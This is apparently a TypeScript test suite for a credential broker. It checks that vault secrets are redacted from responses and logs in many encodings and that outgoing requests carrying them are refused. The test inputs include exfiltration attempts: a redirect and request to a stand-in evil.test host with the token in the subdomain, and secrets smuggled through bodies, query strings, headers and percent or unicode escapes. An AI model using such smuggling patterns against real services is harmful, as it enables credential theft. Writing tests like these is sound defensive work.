import fc from "fast-check";
import { afterEach, expect, test } from "vitest";
import { createLeaks } from "../../../host/broker/leaks.ts";
import { ask, closeAll, credential, everywhere, textOf, withServer } from "../../support/tools/brokerage.ts";

const SECRET = "s3cr3t/+value with=everything&\"quoted'é";

afterEach(closeAll);

const forms = {
  plain: (value: string) => value,
  "URL-encoded": encodeURIComponent,
  "form-encoded": (value: string) => String(new URLSearchParams({ v: value })).slice(2),
  "JSON-escaped": (value: string) => JSON.stringify(value),
  base64: (value: string) => Buffer.from(value).toString("base64"),
  "base64 of a pair": (value: string) => Buffer.from(`me:${value}`).toString("base64"),
  base64url: (value: string) => Buffer.from(`a${value}b`).toString("base64url"),
  hex: (value: string) => Buffer.from(value).toString("hex"),
};

test.each(Object.entries(forms))("a response that echoes the secret %s has it replaced", async (_, form) => {
  const { opened, url } = await withServer((request, response) =>
    response.end(`before ${form(SECRET)} after ${request.method}`),
  );
  await opened.vault.secrets.set("token", SECRET);
  const text = textOf(await ask(opened.open(everywhere("api.test")), url));
  expect(text).toContain("[secret]");
  expect(text).toMatch(/^before .* after GET$/);
  expect(text).not.toContain(form(SECRET));
});

test("an echo of all headers and the URL shows the tool nothing, wherever the secret was put", async () => {
  for (const location of [
    { type: "bearer" },
    { type: "basic", username: "me" },
    { type: "query_param", name: "key" },
    { type: "url_path", placeholder: "KEY" },
  ]) {
    const { server, opened, url } = await withServer(({ path, headers }, response) =>
      response.end(JSON.stringify({ path, headers })),
    );
    const value = "p@ss/word:with+=&?#\"'<>";
    await opened.vault.secrets.set("token", value);
    const text = textOf(await ask(opened.open(credential(location)), `${url}/a/{KEY}`));
    expect(JSON.stringify(server.requests)).not.toBe("[]");
    expect(text).toContain("[secret]");
    for (const form of Object.values(forms)) expect(text).not.toContain(form(value));
  }
});

test.each(Object.entries(forms))("a request that carries a secret out %s is refused", async (_, form) => {
  const { server, opened, url } = await withServer();
  await opened.vault.secrets.set("token", SECRET);
  const carried = form(SECRET);
  const call = opened.open(everywhere("api.test"));
  const replies = [
    await ask(call, url, { method: "POST", body: `x=${carried}` }),
    await ask(call, `${url}/?x=${encodeURIComponent(carried)}`),
    await ask(call, url, { headersJson: JSON.stringify({ "X-A": carried }) }),
  ];
  expect(replies.map(({ ok }) => ok)).toEqual([false, false, false]);
  expect(server.requests).toHaveLength(0);
});

test("a secret spelled out in percent signs or \\u escapes is found too", async () => {
  const { opened, url } = await withServer();
  await opened.vault.secrets.set("token", "plain-token-1");
  const spelled = (prefix: string, width: number) =>
    [..."plain-token-1"]
      .map((char) => prefix + char.charCodeAt(0).toString(16).padStart(width, "0"))
      .join("");
  const call = opened.open(everywhere("api.test"));
  for (const body of [spelled("%", 2), spelled("%25", 2), spelled("\\u", 4)]) {
    expect(textOf(await ask(call, url, { method: "POST", body }))).toContain("carries the value of a secret");
  }
});

test("no reply, record, error or log line holds the secret, whatever the tool and the server do", async () => {
  const value = "Planted-Value-0123456789";
  const { opened, url } = await withServer((request, response) => {
    if (request.path.startsWith("/redirect")) {
      response
        .writeHead(302, { location: `https://${request.headers.authorization?.slice(7)}.evil.test/` })
        .end();
    } else if (request.path.startsWith("/break")) {
      response.socket?.end(
        `HTTP/1.1 200 OK\r\nX: ${request.headers.authorization}\r\nBroken${value}\r\n\r\n`,
      );
    } else response.end(request.headers.authorization);
  });
  await opened.vault.secrets.set("token", value);
  const call = opened.open(credential({ type: "bearer" }));
  const replies = [
    await ask(call, `${url}/echo`),
    await ask(call, `${url}/redirect`),
    await ask(call, `${url}/break`),
    await ask(call, `https://${value}.evil.test/`),
    await ask(call, `${url}/${value}`),
    await ask(call, value),
    await ask(call, url, { method: value }),
    await ask(call, url, { headersJson: JSON.stringify({ [value]: "a\nb" }) }),
  ];
  const seen = JSON.stringify([replies.map(textOf), call.traffic, opened.logged]).toLowerCase();
  expect(seen).not.toContain(value.toLowerCase());
});

test("another tool's secret is replaced as well", async () => {
  const { opened, url } = await withServer((_, response) =>
    response.end("the value other-tools-secret leaked"),
  );
  await opened.vault.secrets.set("others", "other-tools-secret");
  expect(textOf(await ask(opened.open(everywhere("api.test")), url))).toBe("the value [secret] leaked");
});

test("whatever the secret is and wherever it stands, it is found and replaced, and nothing else is", () => {
  const secret = fc
    .string({ unit: "grapheme", minLength: 6, maxLength: 40 })
    .filter((text) => text.trim() === text);
  const around = fc.uint8Array({ maxLength: 20 });
  const form = fc.constantFrom(...Object.values(forms));
  fc.assert(
    fc.property(secret, around, around, form, (value, before, after, write) => {
      const leaks = createLeaks(["another-secret", value]);
      const bytes = Buffer.concat([before, Buffer.from(write(value)), after]);
      expect(leaks.finds(bytes)).toBe(true);
      const scrubbed = Buffer.from(leaks.scrub(bytes));
      expect(scrubbed.includes(Buffer.from(value))).toBe(false);
      expect(scrubbed.includes("[secret]")).toBe(true);
    }),
    { numRuns: 2000 },
  );
});

test("bytes that hold no secret come back untouched, however many secrets there are", () => {
  const leaks = createLeaks(Array.from({ length: 50 }, (_, index) => `secret-number-${index}-x`));
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 500 }), (bytes) => {
      expect(leaks.scrub(bytes)).toBe(bytes);
    }),
  );
  expect(createLeaks(["short"]).finds("a short word")).toBe(false);
  expect(createLeaks([]).finds("anything at all")).toBe(false);
});
